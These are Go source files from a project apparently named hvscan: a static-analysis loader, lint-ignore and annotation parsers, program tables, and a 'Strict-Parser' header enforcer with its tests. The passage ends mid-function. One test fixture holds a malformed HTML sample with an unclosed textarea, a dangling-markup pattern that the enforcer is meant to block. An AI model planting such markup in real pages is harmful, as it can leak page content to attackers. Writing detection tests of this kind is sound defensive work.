	tpkg, err := conf.Check(lp.ImportPath, fset, pkg.Syntax, pkg.Info)
	if err != nil {
		if firstErr != nil {
			err = firstErr
		}
		return nil, fmt.Errorf("type-checking %s: %w", lp.ImportPath, err)
	}
	pkg.Types = tpkg
	return pkg, nil
}

func absAll(dir string, names []string) []string {
	out := make([]string, len(names))
	for i, n := range names {
		if strings.HasPrefix(n, "/") {
			out[i] = n
			continue
		}
		out[i] = dir + "/" + n
	}
	return out
}
