package analysis_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/lint/analysis"
)

func writeTree(t *testing.T, root string, files map[string]string) {
	t.Helper()
	for name, content := range files {
		path := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// Files excluded by a build constraint never reach the parser or the
// type-checker — a tagged-out file full of undefined symbols must not
// fail the load or leak into Syntax.
func TestLoadExcludesBuildTaggedFiles(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"go.mod": "module example.com\n\ngo 1.22\n",
		"p/p.go": "package p\n\nfunc OK() int { return 1 }\n",
		"p/tagged.go": "//go:build neverbuilt\n\npackage p\n\n" +
			"func Broken() { undefinedSymbol() }\n",
	})

	pkgs, err := analysis.Load(dir, "./...")
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if len(pkgs) != 1 {
		t.Fatalf("got %d packages, want 1", len(pkgs))
	}
	pkg := pkgs[0]
	if len(pkg.GoFiles) != 1 || filepath.Base(pkg.GoFiles[0]) != "p.go" {
		t.Errorf("GoFiles = %v, want just p.go", pkg.GoFiles)
	}
	if len(pkg.Syntax) != 1 {
		t.Errorf("Syntax has %d files, want 1", len(pkg.Syntax))
	}
}

// _test.go files are parsed for directive and textual matching but are
// never type-checked, so a test file with type errors (undefined
// identifiers) must not fail Load. In-package and external test files
// both land in TestSyntax, never in Syntax.
func TestLoadKeepsTestFilesSyntaxOnly(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"go.mod": "module example.com\n\ngo 1.22\n",
		"p/p.go": "package p\n\nfunc OK() int { return 1 }\n",
		"p/p_test.go": "package p\n\n" +
			"func helper() { thisIsNotDefined() }\n",
		"p/x_test.go": "package p_test\n\n" +
			"func xhelper() { neitherIsThis() }\n",
	})

	pkgs, err := analysis.Load(dir, "./...")
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if len(pkgs) != 1 {
		t.Fatalf("got %d packages, want 1", len(pkgs))
	}
	pkg := pkgs[0]
	if len(pkg.TestGoFiles) != 1 || filepath.Base(pkg.TestGoFiles[0]) != "p_test.go" {
		t.Errorf("TestGoFiles = %v, want just p_test.go", pkg.TestGoFiles)
	}
	if len(pkg.XTestGoFiles) != 1 || filepath.Base(pkg.XTestGoFiles[0]) != "x_test.go" {
		t.Errorf("XTestGoFiles = %v, want just x_test.go", pkg.XTestGoFiles)
	}
	if len(pkg.Syntax) != 1 {
		t.Errorf("Syntax has %d files, want 1 (test files must stay out)", len(pkg.Syntax))
	}
	if len(pkg.TestSyntax) != 2 {
		t.Errorf("TestSyntax has %d files, want 2", len(pkg.TestSyntax))
	}
}

// The zero-copy parser imports unsafe without cgo; the loader must
// type-check such packages through the importer's built-in handling of
// the pseudo-package rather than demanding export data for it.
func TestLoadUnsafeImportWithoutCgo(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"go.mod": "module example.com\n\ngo 1.22\n",
		"p/p.go": "package p\n\nimport \"unsafe\"\n\n" +
			"func View(b []byte) string {\n" +
			"\treturn unsafe.String(unsafe.SliceData(b), len(b))\n" +
			"}\n",
	})

	pkgs, err := analysis.Load(dir, "./...")
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	if len(pkgs) != 1 {
		t.Fatalf("got %d packages, want 1", len(pkgs))
	}
	if pkgs[0].Types == nil || pkgs[0].Types.Path() != "example.com/p" {
		t.Errorf("package not type-checked: Types = %v", pkgs[0].Types)
	}
}

// Vendored source is pinned upstream code, not ours to lint: even when
// a pattern names a vendored package explicitly, Load must drop it
// while still returning the first-party packages that import it.
func TestLoadRejectsVendoredPackages(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, map[string]string{
		"go.mod": "module example.com\n\ngo 1.22\n\nrequire example.org/dep v0.0.0\n",
		"vendor/modules.txt": "# example.org/dep v0.0.0\n" +
			"## explicit; go 1.22\nexample.org/dep\n",
		"vendor/example.org/dep/dep.go": "package dep\n\nfunc V() int { return 7 }\n",
		"p/p.go": "package p\n\nimport \"example.org/dep\"\n\n" +
			"func Use() int { return dep.V() }\n",
	})

	pkgs, err := analysis.Load(dir, "./...", "example.org/dep")
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	var paths []string
	for _, pkg := range pkgs {
		paths = append(paths, pkg.ImportPath)
		if strings.Contains(pkg.Dir, string(filepath.Separator)+"vendor"+string(filepath.Separator)) {
			t.Errorf("vendored package %s (dir %s) leaked into the analysis set", pkg.ImportPath, pkg.Dir)
		}
	}
	if len(pkgs) != 1 || pkgs[0].ImportPath != "example.com/p" {
		t.Errorf("got packages %v, want just example.com/p", paths)
	}
}
