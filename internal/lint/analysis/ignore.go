package analysis

import (
	"go/ast"
	"go/token"
	"os"
	"strings"
)

// ignoreDirective is one parsed //lint:ignore comment.
//
// Syntax: //lint:ignore <analyzer|all> <reason...>
//
// A directive trailing code on the same line suppresses that line's
// findings; a directive on a line of its own suppresses the following
// line. The reason is mandatory — a suppression without a recorded
// justification is itself reported as a finding.
type ignoreDirective struct {
	file     string
	line     int // the line whose findings are suppressed
	declLine int // the line the directive is written on
	analyzer string
	reason   string
	bad      string // non-empty: malformed, with the problem description
	used     bool   // suppressed at least one finding this run
}

const ignoreMarker = "//lint:ignore"

// filterIgnored drops diagnostics covered by well-formed directives and
// returns driver diagnostics for malformed ones — and, mirroring the
// conformance skiplist's stale detection, for directives that suppress
// nothing. A directive that stopped matching any finding is dead
// documentation at best and a silenced future regression at worst, so
// it is a hard finding. Staleness is only judged for analyzers that
// actually ran (analyzerNames): a single-analyzer test run must not
// condemn a directive aimed at a different analyzer.
func filterIgnored(pkgs []*Package, diags []Diagnostic, analyzerNames map[string]bool) (kept, malformed []Diagnostic) {
	seenFile := make(map[string]bool)
	var directives []ignoreDirective
	for _, pkg := range pkgs {
		files := append(append([]*ast.File(nil), pkg.Syntax...), pkg.TestSyntax...)
		for _, f := range files {
			name := pkg.Fset.Position(f.Pos()).Filename
			if seenFile[name] {
				continue
			}
			seenFile[name] = true
			directives = append(directives, scanIgnores(pkg.Fset, f)...)
		}
	}
	type key struct {
		file     string
		line     int
		analyzer string
	}
	suppress := make(map[key]*ignoreDirective)
	for i := range directives {
		d := &directives[i]
		if d.bad != "" {
			malformed = append(malformed, Diagnostic{
				Analyzer: "hvlint",
				Pos:      token.Position{Filename: d.file, Line: d.declLine, Column: 1},
				Message:  d.bad,
			})
			continue
		}
		suppress[key{d.file, d.line, d.analyzer}] = d
	}
	for _, d := range diags {
		if by := suppress[key{d.Pos.Filename, d.Pos.Line, d.Analyzer}]; by != nil {
			by.used = true
			continue
		}
		if by := suppress[key{d.Pos.Filename, d.Pos.Line, "all"}]; by != nil {
			by.used = true
			continue
		}
		kept = append(kept, d)
	}
	for _, d := range directives {
		if d.bad != "" || d.used {
			continue
		}
		if d.analyzer != "all" && !analyzerNames[d.analyzer] {
			continue // the targeted analyzer did not run; cannot judge
		}
		malformed = append(malformed, Diagnostic{
			Analyzer: "hvlint",
			Pos:      token.Position{Filename: d.file, Line: d.declLine, Column: 1},
			Message: "stale " + ignoreMarker + " " + d.analyzer +
				" directive: it suppresses nothing — delete it (reason was: " + d.reason + ")",
		})
	}
	return kept, malformed
}

// scanIgnores extracts the directives of one parsed file. Only a
// comment whose text begins with the marker itself counts — mentions
// inside prose or string literals never match.
func scanIgnores(fset *token.FileSet, f *ast.File) []ignoreDirective {
	var out []ignoreDirective
	for _, group := range f.Comments {
		for _, c := range group.List {
			rest, ok := strings.CutPrefix(c.Text, ignoreMarker)
			if !ok || (rest != "" && rest[0] != ' ' && rest[0] != '\t') {
				continue
			}
			pos := fset.Position(c.Slash)
			d := ignoreDirective{file: pos.Filename, declLine: pos.Line, line: pos.Line}
			if standaloneComment(pos) {
				// Stand-alone comment line: it governs the next line.
				d.line = pos.Line + 1
			}
			fields := strings.Fields(rest)
			switch {
			case len(fields) == 0:
				d.bad = "malformed " + ignoreMarker + ": want \"" + ignoreMarker + " <analyzer> <reason>\""
			case len(fields) == 1:
				d.bad = ignoreMarker + " " + fields[0] + " needs a justification: every suppression must record why"
			default:
				d.analyzer = fields[0]
				d.reason = strings.Join(fields[1:], " ")
			}
			out = append(out, d)
		}
	}
	return out
}

// standaloneComment reports whether only whitespace precedes the
// comment on its source line (so the directive governs the next line
// rather than its own).
func standaloneComment(pos token.Position) bool {
	if pos.Column == 1 {
		return true
	}
	line, ok := sourceLine(pos.Filename, pos.Line)
	if !ok {
		return false
	}
	if pos.Column-1 > len(line) {
		return false
	}
	return strings.TrimSpace(line[:pos.Column-1]) == ""
}

// sourceLine returns the 1-based line of the file, read on demand.
func sourceLine(filename string, n int) (string, bool) {
	data, err := os.ReadFile(filename)
	if err != nil {
		return "", false
	}
	lines := strings.Split(string(data), "\n")
	if n < 1 || n > len(lines) {
		return "", false
	}
	return lines[n-1], true
}
