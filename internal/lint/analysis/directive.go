package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"strings"
)

// Directive is one parsed //hv: source annotation. The vocabulary ties
// the zero-copy and allocation contracts to the code they govern:
//
//	//hv:hotpath <reason>   on a function: the function (and everything
//	                        it transitively calls inside the module) is
//	                        an allocation-free zone, enforced by the
//	                        alloczone analyzer.
//	//hv:view <reason>      on a function: its results are zero-copy
//	                        views whose validity the callee's recycle
//	                        discipline bounds; callers must copy before
//	                        retaining. On a struct field: the field is a
//	                        recycled scratch buffer, and views derived
//	                        from it must not escape their function
//	                        except through another //hv:view function.
//	                        Enforced by the zerocopy analyzer.
//
// The reason is mandatory, mirroring //lint:ignore: an annotation that
// changes what the analyzers enforce must record why it is there.
type Directive struct {
	Verb   string // "hotpath" or "view"
	Reason string
	Pos    token.Position
}

const directiveMarker = "//hv:"

// directiveVerbs is the closed vocabulary; anything else after //hv: is
// reported as a driver finding so a typo cannot silently disable a
// contract.
var directiveVerbs = map[string]bool{"hotpath": true, "view": true}

// scanDirectives attaches every //hv: comment of pkg to the function or
// struct field it annotates (the decl whose doc group or line comment
// carries it) and reports malformed or unattached directives through
// report.
func scanDirectives(pkg *Package, attach func(key string, d Directive), report func(Diagnostic)) {
	bad := func(pos token.Position, msg string) {
		report(Diagnostic{Analyzer: "hvlint", Pos: pos, Message: msg})
	}
	consumed := make(map[*ast.Comment]bool)
	takeGroup := func(key string, groups ...*ast.CommentGroup) {
		for _, g := range groups {
			if g == nil {
				continue
			}
			for _, c := range g.List {
				d, ok, problem := parseDirective(pkg.Fset, c)
				if !ok {
					continue
				}
				consumed[c] = true
				if problem != "" {
					bad(d.Pos, problem)
					continue
				}
				attach(key, d)
			}
		}
	}

	for _, f := range pkg.Syntax {
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.FuncDecl:
				if obj := pkg.Info.ObjectOf(n.Name); obj != nil {
					takeGroup(ObjKey(obj), n.Doc)
				}
			case *ast.TypeSpec:
				st, ok := n.Type.(*ast.StructType)
				if !ok {
					return true
				}
				for _, field := range st.Fields.List {
					for _, name := range field.Names {
						takeGroup(FieldKey(pkg.ImportPath, n.Name.Name, name.Name), field.Doc, field.Comment)
					}
				}
			}
			return true
		})
		// Anything left is a directive on a line the vocabulary gives no
		// meaning to (a statement, an import, package scope): report it
		// rather than silently enforcing nothing.
		for _, group := range f.Comments {
			for _, c := range group.List {
				if consumed[c] {
					continue
				}
				if d, ok, problem := parseDirective(pkg.Fset, c); ok {
					if problem != "" {
						bad(d.Pos, problem)
					} else {
						bad(d.Pos, "misplaced //hv:"+d.Verb+" directive: it must annotate a function declaration or a struct field")
					}
				}
			}
		}
	}
}

// parseDirective recognizes one //hv: comment. ok reports whether the
// comment is a directive at all; problem is non-empty when it is one
// but malformed.
func parseDirective(fset *token.FileSet, c *ast.Comment) (d Directive, ok bool, problem string) {
	rest, found := strings.CutPrefix(c.Text, directiveMarker)
	if !found {
		return Directive{}, false, ""
	}
	pos := fset.Position(c.Slash)
	verb, reason, _ := strings.Cut(rest, " ")
	d = Directive{Verb: strings.TrimSpace(verb), Reason: strings.TrimSpace(reason), Pos: pos}
	switch {
	case d.Verb == "":
		return d, true, "malformed //hv: directive: want \"//hv:<hotpath|view> <reason>\""
	case !directiveVerbs[d.Verb]:
		return d, true, "unknown //hv: directive verb " + d.Verb + ": the vocabulary is hotpath, view"
	case d.Reason == "":
		return d, true, "//hv:" + d.Verb + " needs a justification: every contract annotation must record why"
	}
	return d, true, ""
}

// ObjKey returns a stable cross-package key for obj. Within one driver
// run a target package sees its dependencies through export data, so
// the same function is represented by distinct types.Object values in
// different passes; keys restore identity. Functions use the
// go/types full name ("(*pkg.T).M", "pkg.F"); other objects are keyed
// by package path and name.
func ObjKey(obj types.Object) string {
	if obj == nil {
		return ""
	}
	if fn, ok := obj.(*types.Func); ok {
		return fn.FullName()
	}
	if obj.Pkg() != nil {
		return obj.Pkg().Path() + "." + obj.Name()
	}
	return obj.Name()
}

// FieldKey returns the key of field fieldName on the named struct type
// typeName of package pkgPath. Field objects cannot be keyed by ObjKey
// alone (two structs may both have an "errors" field), so the owning
// type is part of the key.
func FieldKey(pkgPath, typeName, fieldName string) string {
	return pkgPath + "." + typeName + "." + fieldName
}

// FieldKeyOf resolves the key for the field selected by sel, or "" when
// sel is not a field selection on a named struct type.
func (p *Pass) FieldKeyOf(sel *ast.SelectorExpr) string {
	s, ok := p.Pkg.Info.Selections[sel]
	if !ok || s.Kind() != types.FieldVal {
		return ""
	}
	recv := s.Recv()
	for {
		ptr, ok := recv.(*types.Pointer)
		if !ok {
			break
		}
		recv = ptr.Elem()
	}
	named, ok := recv.(*types.Named)
	if !ok {
		return ""
	}
	pkg := named.Obj().Pkg()
	if pkg == nil {
		return ""
	}
	return FieldKey(pkg.Path(), named.Obj().Name(), sel.Sel.Name)
}
