package analysis

import (
	"go/types"
)

// Program is the whole-run view the driver builds before any analyzer
// runs: every loaded package, the //hv: directive table, the
// type-backed call graph, per-function escape/retention summaries, and
// a cross-package fact store analyzers use to feed conclusions to each
// other. Packages arrive in dependency order, so by the time an
// analyzer's Run sees a package, the program-level tables already cover
// everything it imports.
type Program struct {
	Packages []*Package

	byPath     map[string]*Package
	directives map[string][]Directive
	calls      map[string][]CallEdge
	summaries  map[string]*FuncSummary
	facts      map[factKey]any

	// driver diagnostics produced while building (malformed //hv:
	// directives), merged into the run's output.
	diags []Diagnostic
}

type factKey struct {
	name string // fact namespace, usually the exporting analyzer's name
	key  string // ObjKey / FieldKey the fact is about
}

// BuildProgram assembles the program tables over pkgs. Run calls it;
// tests that drive analyzers manually may too.
func BuildProgram(pkgs []*Package) *Program {
	prog := &Program{
		Packages:   pkgs,
		byPath:     make(map[string]*Package, len(pkgs)),
		directives: make(map[string][]Directive),
		calls:      make(map[string][]CallEdge),
		summaries:  make(map[string]*FuncSummary),
		facts:      make(map[factKey]any),
	}
	for _, pkg := range pkgs {
		prog.byPath[pkg.ImportPath] = pkg
	}
	collect := func(d Diagnostic) { prog.diags = append(prog.diags, d) }
	for _, pkg := range pkgs {
		scanDirectives(pkg, func(key string, d Directive) {
			prog.directives[key] = append(prog.directives[key], d)
		}, collect)
		prog.buildCallGraph(pkg)
	}
	// Summaries after directives: the taint engine consults //hv:view
	// marks, and dependency order makes callee summaries available to
	// their importers.
	for _, pkg := range pkgs {
		prog.summarizePackage(pkg)
	}
	return prog
}

// Package returns the loaded target package with the given import path,
// or nil when the path is outside the run.
func (prog *Program) Package(importPath string) *Package {
	return prog.byPath[importPath]
}

// HasDirective reports whether the function or field keyed by key
// carries a //hv:<verb> directive.
func (prog *Program) HasDirective(key, verb string) bool {
	for _, d := range prog.directives[key] {
		if d.Verb == verb {
			return true
		}
	}
	return false
}

// DirectivesFor returns every //hv: directive attached to key.
func (prog *Program) DirectivesFor(key string) []Directive {
	return prog.directives[key]
}

// DirectiveKeys returns every key carrying a //hv:<verb> directive, for
// analyzers that iterate roots (alloczone's hotpath set).
func (prog *Program) DirectiveKeys(verb string) []string {
	var out []string
	for key, ds := range prog.directives {
		for _, d := range ds {
			if d.Verb == verb {
				out = append(out, key)
				break
			}
		}
	}
	return out
}

// Summary returns the escape/retention summary of the function keyed by
// key, or nil when the function is outside the loaded packages (its
// body was never seen, e.g. standard library).
func (prog *Program) Summary(key string) *FuncSummary {
	return prog.summaries[key]
}

// SummaryOf is Summary through a types.Func.
func (prog *Program) SummaryOf(fn *types.Func) *FuncSummary {
	if fn == nil {
		return nil
	}
	return prog.summaries[ObjKey(fn)]
}

// ExportFact records a conclusion about the object keyed by key under
// the given namespace, for later passes (of this or another analyzer)
// to import. Facts written while visiting a package are visible to
// every package processed after it — the offline stand-in for the
// x/tools Facts mechanism.
func (prog *Program) ExportFact(name, key string, value any) {
	prog.facts[factKey{name, key}] = value
}

// Fact returns the fact recorded under (name, key), if any.
func (prog *Program) Fact(name, key string) (any, bool) {
	v, ok := prog.facts[factKey{name, key}]
	return v, ok
}

// IsViewFunc reports whether fn is marked //hv:view.
func (prog *Program) IsViewFunc(fn *types.Func) bool {
	return fn != nil && prog.HasDirective(ObjKey(fn), "view")
}
