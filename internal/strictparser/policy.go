// Package strictparser implements the parser-hardening roadmap the paper
// proposes in §5.3.2: a STRICT-PARSER response header with three modes
// (strict, default, unsafe), a staged list of enforced deprecations that
// starts with the rarest violations, and a monitor endpoint that receives
// violation reports so developers can test policies without breakage —
// the document.domain / SameSite playbook applied to error tolerance.
package strictparser

import (
	"fmt"
	"sort"
	"strings"

	"github.com/hvscan/hvscan/internal/core"
)

// HeaderName is the proposed response header.
const HeaderName = "Strict-Parser"

// Mode selects the parsing strictness.
type Mode int

const (
	// ModeDefault blocks only the enforced-deprecation list; it is also
	// what browsers must assume when the header is absent.
	ModeDefault Mode = iota
	// ModeStrict blocks every catalogued violation (full opt-in).
	ModeStrict
	// ModeUnsafe ignores all deprecations — the escape hatch for sites
	// that genuinely depend on a violation.
	ModeUnsafe
)

func (m Mode) String() string {
	switch m {
	case ModeStrict:
		return "strict"
	case ModeUnsafe:
		return "unsafe"
	}
	return "default"
}

// Policy is a parsed STRICT-PARSER header.
type Policy struct {
	Mode Mode
	// Monitor, when set, receives JSON violation reports regardless of
	// mode, so developers can trial a stricter mode in the wild.
	Monitor string
}

// String serializes the policy back to header form.
func (p Policy) String() string {
	if p.Monitor == "" {
		return p.Mode.String()
	}
	return fmt.Sprintf("%s; monitor=%s", p.Mode, p.Monitor)
}

// ParsePolicy decodes a header value such as
//
//	strict
//	default; monitor=https://example.org/report
//	unsafe
//
// An empty value is the default policy. Unknown directives are errors —
// a hardening header must not fail open on typos.
func ParsePolicy(value string) (Policy, error) {
	p := Policy{}
	value = strings.TrimSpace(value)
	if value == "" {
		return p, nil
	}
	for i, part := range strings.Split(value, ";") {
		part = strings.TrimSpace(part)
		if i == 0 {
			switch strings.ToLower(part) {
			case "strict":
				p.Mode = ModeStrict
			case "default":
				p.Mode = ModeDefault
			case "unsafe":
				p.Mode = ModeUnsafe
			default:
				return Policy{}, fmt.Errorf("strictparser: unknown mode %q", part)
			}
			continue
		}
		key, val, ok := strings.Cut(part, "=")
		if !ok {
			return Policy{}, fmt.Errorf("strictparser: bad directive %q", part)
		}
		switch strings.ToLower(strings.TrimSpace(key)) {
		case "monitor":
			p.Monitor = strings.TrimSpace(val)
		default:
			return Policy{}, fmt.Errorf("strictparser: unknown directive %q", key)
		}
	}
	return p, nil
}

// EnforcedDeprecations is the staged list for the default mode. Stage 1
// holds the violations the paper found rare enough to enforce immediately
// (the math-element namespace confusion, the dangling-markup family);
// later stages join as their usage decays, until default equals strict.
var EnforcedDeprecations = []string{
	"HF5_3", // 3 domains in eight years
	"DE1",   // 0.10% of domains
	"DE2",   // 0.27%
	"DE3_3", // 0.93%
	"HF5_2", // 1.22%
	"DE3_1", // already mitigated by Chromium since 2017
}

// Decision is the outcome of evaluating a document under a policy.
type Decision struct {
	Policy     Policy
	Violations []core.Finding
	// BlockedBy lists the rule IDs that triggered blocking (empty means
	// the document renders).
	BlockedBy []string
}

// Blocked reports whether the document must not render.
func (d *Decision) Blocked() bool { return len(d.BlockedBy) > 0 }

// Enforcer evaluates documents against policies.
type Enforcer struct {
	checker  *core.Checker
	enforced map[string]bool
}

// NewEnforcer builds an enforcer; enforced overrides the default staged
// list when non-nil.
func NewEnforcer(enforced []string) *Enforcer {
	if enforced == nil {
		enforced = EnforcedDeprecations
	}
	m := make(map[string]bool, len(enforced))
	for _, id := range enforced {
		m[id] = true
	}
	return &Enforcer{checker: core.NewChecker(), enforced: m}
}

// Evaluate checks the document and applies the policy semantics.
func (e *Enforcer) Evaluate(html []byte, p Policy) (*Decision, error) {
	rep, err := e.checker.Check(html)
	if err != nil {
		return nil, err
	}
	d := &Decision{Policy: p, Violations: rep.Findings}
	if p.Mode == ModeUnsafe {
		return d, nil
	}
	blocked := map[string]bool{}
	for _, id := range rep.ViolatedIDs() {
		if p.Mode == ModeStrict || e.enforced[id] {
			blocked[id] = true
		}
	}
	for id := range blocked {
		d.BlockedBy = append(d.BlockedBy, id)
	}
	sort.Strings(d.BlockedBy)
	return d, nil
}
