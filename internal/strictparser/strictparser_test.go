package strictparser

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

func TestParsePolicy(t *testing.T) {
	cases := []struct {
		in      string
		mode    Mode
		monitor string
		err     bool
	}{
		{"", ModeDefault, "", false},
		{"strict", ModeStrict, "", false},
		{"STRICT", ModeStrict, "", false},
		{"unsafe", ModeUnsafe, "", false},
		{"default", ModeDefault, "", false},
		{"strict; monitor=https://m.example/r", ModeStrict, "https://m.example/r", false},
		{"default;monitor=/local", ModeDefault, "/local", false},
		{"lenient", 0, "", true},
		{"strict; report=x", 0, "", true},
		{"strict; monitor", 0, "", true},
	}
	for _, tc := range cases {
		p, err := ParsePolicy(tc.in)
		if tc.err {
			if err == nil {
				t.Errorf("ParsePolicy(%q): want error", tc.in)
			}
			continue
		}
		if err != nil {
			t.Errorf("ParsePolicy(%q): %v", tc.in, err)
			continue
		}
		if p.Mode != tc.mode || p.Monitor != tc.monitor {
			t.Errorf("ParsePolicy(%q) = %+v", tc.in, p)
		}
	}
}

func TestPolicyRoundTrip(t *testing.T) {
	for _, p := range []Policy{
		{},
		{Mode: ModeStrict},
		{Mode: ModeUnsafe, Monitor: "https://m/x"},
	} {
		q, err := ParsePolicy(p.String())
		if err != nil {
			t.Fatalf("round trip %v: %v", p, err)
		}
		if q != p {
			t.Fatalf("round trip %v -> %v", p, q)
		}
	}
}

const cleanDoc = `<!DOCTYPE html><html><head><title>t</title></head><body><p>fine</p></body></html>`

// violatingDoc carries FB2 (common, not in the staged list) and DE1 (rare,
// stage-1 enforced).
const violatingDoc = `<!DOCTYPE html><html><head><title>t</title></head><body><img src="x"alt="y"><form action="/f"><input type="submit"><textarea>leak`

func TestEnforcerModes(t *testing.T) {
	e := NewEnforcer(nil)

	d, err := e.Evaluate([]byte(cleanDoc), Policy{Mode: ModeStrict})
	if err != nil || d.Blocked() {
		t.Fatalf("clean doc blocked under strict: %+v, %v", d, err)
	}

	d, err = e.Evaluate([]byte(violatingDoc), Policy{Mode: ModeStrict})
	if err != nil || !d.Blocked() {
		t.Fatalf("violating doc not blocked under strict: %+v", d)
	}
	if !containsID(d.BlockedBy, "FB2") || !containsID(d.BlockedBy, "DE1") {
		t.Fatalf("strict blockedBy = %v", d.BlockedBy)
	}

	// Default mode: only the staged deprecations block.
	d, err = e.Evaluate([]byte(violatingDoc), Policy{Mode: ModeDefault})
	if err != nil || !d.Blocked() {
		t.Fatalf("DE1 must block in default mode: %+v", d)
	}
	if containsID(d.BlockedBy, "FB2") {
		t.Fatalf("FB2 must not block in default mode yet: %v", d.BlockedBy)
	}

	// Unsafe mode: never blocks, still reports violations.
	d, err = e.Evaluate([]byte(violatingDoc), Policy{Mode: ModeUnsafe})
	if err != nil || d.Blocked() {
		t.Fatalf("unsafe mode blocked: %+v", d)
	}
	if len(d.Violations) == 0 {
		t.Fatal("unsafe mode lost the violation report")
	}
}

func containsID(ids []string, id string) bool {
	for _, x := range ids {
		if x == id {
			return true
		}
	}
	return false
}

func serveDoc(doc, policyHeader string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if policyHeader != "" {
			w.Header().Set(HeaderName, policyHeader)
		}
		_, _ = io.WriteString(w, doc)
	})
}

func TestMiddlewareBlocksAndPasses(t *testing.T) {
	// Strict + violating -> blocked page.
	mw := NewMiddleware(serveDoc(violatingDoc, "strict"), nil)
	rec := httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/page", nil))
	if rec.Code != http.StatusUnprocessableEntity {
		t.Fatalf("status = %d, want 422", rec.Code)
	}
	if !strings.Contains(rec.Body.String(), "STRICT-PARSER") {
		t.Fatalf("no warning page: %q", rec.Body.String())
	}

	// Unsafe + violating -> passes verbatim.
	mw = NewMiddleware(serveDoc(violatingDoc, "unsafe"), nil)
	rec = httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/page", nil))
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "textarea") {
		t.Fatalf("unsafe pass-through broken: %d %q", rec.Code, rec.Body.String())
	}

	// Clean + strict -> passes.
	mw = NewMiddleware(serveDoc(cleanDoc, "strict"), nil)
	rec = httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/", nil))
	if rec.Code != http.StatusOK || rec.Body.String() != cleanDoc {
		t.Fatalf("clean doc mangled: %d", rec.Code)
	}

	// Non-HTML passes untouched whatever it contains.
	mw = NewMiddleware(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set(HeaderName, "strict")
		_, _ = io.WriteString(w, `{"html":"<textarea>"}`)
	}), nil)
	rec = httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/api", nil))
	if rec.Code != http.StatusOK || !strings.Contains(rec.Body.String(), "textarea") {
		t.Fatalf("non-HTML mangled: %d %q", rec.Code, rec.Body.String())
	}
}

func TestMonitorReporting(t *testing.T) {
	var mu sync.Mutex
	var reports []MonitorReport
	monitor := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		var rep MonitorReport
		if err := json.NewDecoder(r.Body).Decode(&rep); err != nil {
			t.Errorf("bad report: %v", err)
		}
		mu.Lock()
		reports = append(reports, rep)
		mu.Unlock()
	}))
	defer monitor.Close()

	mw := NewMiddleware(serveDoc(violatingDoc, "unsafe; monitor="+monitor.URL), nil)
	rec := httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/monitored", nil))
	mw.Reporter().Flush()

	mu.Lock()
	defer mu.Unlock()
	if len(reports) != 1 {
		t.Fatalf("reports = %d, want 1", len(reports))
	}
	r := reports[0]
	if r.DocumentURL != "/monitored" || r.Blocked {
		t.Fatalf("report = %+v", r)
	}
	if !containsID(r.Violations, "FB2") || !containsID(r.Violations, "DE1") {
		t.Fatalf("report violations = %v", r.Violations)
	}
}

func TestWarningsHeader(t *testing.T) {
	// Unsafe mode with violations: a warnings header, no blocking.
	mw := NewMiddleware(serveDoc(violatingDoc, "unsafe"), nil)
	rec := httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/w", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d", rec.Code)
	}
	warns := rec.Header().Get(WarningsHeader)
	if !strings.Contains(warns, "FB2") || !strings.Contains(warns, "DE1") {
		t.Fatalf("warnings = %q", warns)
	}

	// Clean document: no warnings header.
	mw = NewMiddleware(serveDoc(cleanDoc, "strict"), nil)
	rec = httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/c", nil))
	if got := rec.Header().Get(WarningsHeader); got != "" {
		t.Fatalf("clean doc got warnings %q", got)
	}

	// Blocked documents carry the block page, not the warning header.
	mw = NewMiddleware(serveDoc(violatingDoc, "strict"), nil)
	rec = httptest.NewRecorder()
	mw.ServeHTTP(rec, httptest.NewRequest("GET", "/b", nil))
	if rec.Code != http.StatusUnprocessableEntity {
		t.Fatalf("status = %d", rec.Code)
	}
	if got := rec.Header().Get(WarningsHeader); got != "" {
		t.Fatalf("blocked doc got warnings %q", got)
	}
}
