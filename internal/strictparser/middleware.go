package strictparser

import (
	"bytes"
	"encoding/json"
	"net/http"
	"sort"
	"strings"
	"sync"
	"time"
)

// Middleware wraps an http.Handler with STRICT-PARSER enforcement, playing
// the role a hardened browser engine would: it buffers HTML responses,
// evaluates the response's own Strict-Parser header, blocks violating
// documents (per mode) with a warning page, and posts violation reports to
// the policy's monitor URL.
type Middleware struct {
	next     http.Handler
	enforcer *Enforcer
	reporter *Reporter
}

// NewMiddleware wraps next. enforcer may be nil (defaults apply).
func NewMiddleware(next http.Handler, enforcer *Enforcer) *Middleware {
	if enforcer == nil {
		enforcer = NewEnforcer(nil)
	}
